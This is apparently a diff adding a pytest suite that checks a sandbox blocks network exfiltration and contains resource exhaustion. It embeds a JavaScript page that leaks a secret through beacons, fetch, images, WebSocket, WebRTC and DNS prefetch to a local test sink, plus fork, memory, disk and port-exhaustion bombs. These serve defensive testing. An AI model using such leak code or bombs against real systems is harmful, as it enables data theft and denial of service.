@@ -1,0 +1,201 @@
+"""What runs in a box sends nothing to anybody (a sink of the host sees no packet), and what it uses up is given back.
+
+Both in every form of box that this account can make: the wall is the form's, never the program's good manners.
+"""
+
+import contextlib
+import json
+import os
+import secrets
+import socket
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from tests.sandbox.boxes import AS_ROOT, FORMS, ORDINARY_UID, Boxes, a_marker, boxes_of, running_with, until
+from tests.sandbox.servers import Echo, serving
+
+ACCOUNT = ORDINARY_UID if AS_ROOT else os.geteuid()
+EXFILTRATOR = Path(__file__).with_name("exfiltrator.py").read_text("utf-8")
+
+
+@pytest.fixture(params=FORMS)
+def boxes(request: pytest.FixtureRequest) -> Iterator[Boxes]:
+    yield from boxes_of(request.param)
+
+
+@pytest.fixture
+def open_to_all() -> Iterator[Boxes]:
+    """No box, for an account that Chromium's own sandbox serves: the control."""
+    yield from boxes_of("unsealed, ordinary account" if AS_ROOT else "unsealed")
+
+
+# --- nothing is sent -----------------------------------------------------------------------------------------------------
+
+@dataclass
+class Sink:
+    """Listens on every address of the host and notes each packet and each connection."""
+
+    tcp: int = 0
+    udp: int = 0
+    seen: list[str] = field(default_factory=list)
+
+    def told(self, secret: str, *also: int) -> str:
+        """What an exfiltrator is told: the host by all its names, this sink's ports and others."""
+        hosts = ["127.0.0.1", "127.0.0.2", *_own_addresses()]
+        return json.dumps({"secret": secret, "hosts": hosts, "tcp": [self.tcp, *also], "udp": self.udp})
+
+
+@pytest.fixture
+def sink() -> Iterator[Sink]:
+    with socket.create_server(("0.0.0.0", 0)) as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.bind(("0.0.0.0", 0))
+        made = Sink(tcp.getsockname()[1], udp.getsockname()[1])
+        threads = [threading.Thread(target=_connections, args=(tcp, made)), threading.Thread(target=_packets, args=(udp, made))]
+        for thread in threads:
+            thread.start()
+        yield made
+        tcp.shutdown(socket.SHUT_RDWR)
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
+            last.sendto(b"", ("127.0.0.1", made.udp))
+        for thread in threads:
+            thread.join()
+
+
+def _connections(listener: socket.socket, sink: Sink) -> None:
+    with contextlib.suppress(OSError):
+        while True:
+            link, peer = listener.accept()
+            sink.seen.append(f"tcp from {peer}")
+            link.close()
+
+
+def _packets(datagrams: socket.socket, sink: Sink) -> None:
+    while packet := datagrams.recv(2000):
+        sink.seen.append(f"udp {packet[:40]!r}")
+
+
+def _own_addresses() -> list[str]:
+    with contextlib.suppress(OSError):
+        return [address for address in socket.gethostbyname_ex(socket.gethostname())[2] if not address.startswith("127.")]
+    return []
+
+
+def test_an_app_that_sends_its_secrets_reaches_no_sink(boxes, sink):
+    """Datagrams, questions for names, connections and what is sent along with opening one: row by row, zero packets. The
+    port of the sink is one that the box dials, because a permitted port must not be that port of every address."""
+    path = boxes.folder / "broker.sock"
+    with serving(path, Echo):
+        boxes.own(path)
+        ended = boxes.python(EXFILTRATOR, sink.told(secrets.token_hex(8)), dial=[{"port": sink.tcp, "socket": str(path)}])
+    assert ended.text == "done\n", ended
+    assert sink.seen == []
+
+
+def test_outside_of_a_box_the_same_app_reaches_the_sink(open_to_all, sink):
+    assert open_to_all.python(EXFILTRATOR, sink.told(secrets.token_hex(8))).text == "done\n"
+    until(lambda: {line.split()[0] for line in sink.seen} == {"tcp", "udp"})
+
+
+PAGE = """<title>leaking</title><link rel="dns-prefetch" href="//%(secret)s.example"><script>
+const to = "%(host)s:%(tcp)d", text = "%(secret)s";
+async function leak() {
+  navigator.sendBeacon("http://" + to + "/", text);
+  fetch("http://" + to + "/?" + text, {mode: "no-cors"}).catch(() => {});
+  new Image().src = "http://" + to + "/" + text;
+  try { new WebSocket("ws://" + to + "/"); } catch (error) {}
+  const link = new RTCPeerConnection({iceServers: [{urls: "stun:%(host)s:%(udp)d"}]});
+  link.createDataChannel(text);
+  await link.setLocalDescription(await link.createOffer());
+  await new Promise(done => setTimeout(done, 700));
+  document.title = "leaked";
+}
+leak();
+</script>"""
+VISIT = """
+import os
+from playwright.sync_api import sync_playwright
+with sync_playwright() as play:
+    page = play.chromium.launch(executable_path=os.environ["LOF_BROWSER"], chromium_sandbox=True).new_page()
+    page.goto("http://127.0.0.1:8090/")
+    page.wait_for_function("document.title == 'leaked'")
+    print("visited")
+"""
+
+
+def leaking(sink: Sink, *, host: str) -> type[Echo]:
+    """A page that sends what it knows by every way that a page has."""
+    text = PAGE % {"secret": secrets.token_hex(8), "host": host, "tcp": sink.tcp, "udp": sink.udp}
+
+    class Leaking(Echo):
+        def do_GET(self) -> None:  # noqa: N802 - the standard library's name
+            self.answer(text.encode())
+
+    return Leaking
+
+
+def visit(boxes: Boxes, sink: Sink) -> str:
+    path = boxes.folder / "app.sock"
+    with serving(path, leaking(sink, host=(_own_addresses() or ["127.0.0.1"])[0])):
+        boxes.own(path)
+        ended = boxes.run("python", "-c", VISIT, browser=True, distributions=["playwright"], limits={"wall_seconds": 50},
+                          dial=[{"port": 8090, "socket": str(path)}])
+    assert ended.text == "visited\n", ended
+    return ended.result["form"]
+
+
+def test_a_page_that_sends_its_secrets_reaches_no_sink(boxes, sink):
+    """Beacon, fetch, image, WebSocket, WebRTC and prefetched names, from a real Chromium that nothing else restrains."""
+    assert visit(boxes, sink) == boxes.form
+    assert sink.seen == []
+
+
+def test_outside_of_a_box_the_same_page_reaches_the_sink(open_to_all, sink):
+    visit(open_to_all, sink)
+    assert {line.split()[0] for line in sink.seen} == {"tcp", "udp"}
+
+
+# --- nothing is used up for good -----------------------------------------------------------------------------------------
+
+BOMBS = {
+    "loop": "while True: pass",
+    "fork": "import os\nwhile True:\n    try:\n        if os.fork() == 0: os.setsid()\n    except OSError: pass",
+    "memory": "a = []\nwhile True: a.append(bytearray(4 << 20)); a[-1][::4096] = b'x' * 1024",
+    "disk": "n = 0\nwhile True: n += 1; open(f'{n}', 'wb').write(bytes(1 << 20))",
+    "one file": "file = open('one', 'wb')\nwhile True: file.write(bytes(1 << 20))",
+    "ports": "import socket\nkept = []\nwhile True:\n    try: kept.append(socket.create_server(('127.0.0.1', 0)))\n"
+             "    except OSError: pass",
+}
+ENDED_BY = {"memory": "memory", "disk": "disk", "one file": None}
+
+
+@pytest.mark.parametrize("bomb", BOMBS)
+def test_a_bomb_is_stopped_and_leaves_the_host_as_it_was(boxes, bomb):
+    """Nothing runs, is mounted or listens afterwards, and the disk has at most what the limit allows, and a moment's growth."""
+    inside, marker = boxes.place("inside"), a_marker()
+    before = _machine()
+    ended = boxes.python(f"import sys\n{BOMBS[bomb]}", marker, cwd="/app",
+                         binds=[{"source": str(inside), "target": "/app", "mode": "rw"}],
+                         limits={"wall_seconds": 4 if bomb not in ENDED_BY else 30, "memory_mb": 96, "pids": 30,
+                                 "disk_mb": 20, "file_mb": 10, "open_files": 64})
+    assert ended.code != 0
+    assert ended.result["killed_by"] == ENDED_BY.get(bomb, "wall"), ended
+    assert running_with(marker) == []
+    assert _machine() == before
+    assert all(path.stat().st_size <= 10 << 20 for path in inside.iterdir())
+    assert sum(path.stat().st_blocks * 512 for path in inside.iterdir()) < 300 << 20
+
+
+def _machine() -> tuple[object, ...]:
+    """What a box could leave behind: mounts, its own folder, control groups."""
+    groups = {folder for folder, _, _ in os.walk("/sys/fs/cgroup") if "/box-" in folder and _is_ours(folder)}
+    folders = {path.name for path in Path("/tmp").glob("factory-landlock-*") if path.stat().st_uid == ACCOUNT}
+    return Path("/proc/self/mounts").read_text(), folders, groups
+
+
+def _is_ours(folder: str) -> bool:
+    """Whether the group is of a supervisor that is gone: those of others come and go meanwhile."""
+    return not Path("/proc", folder.rpartition("/box-")[2].partition("-")[0]).exists()
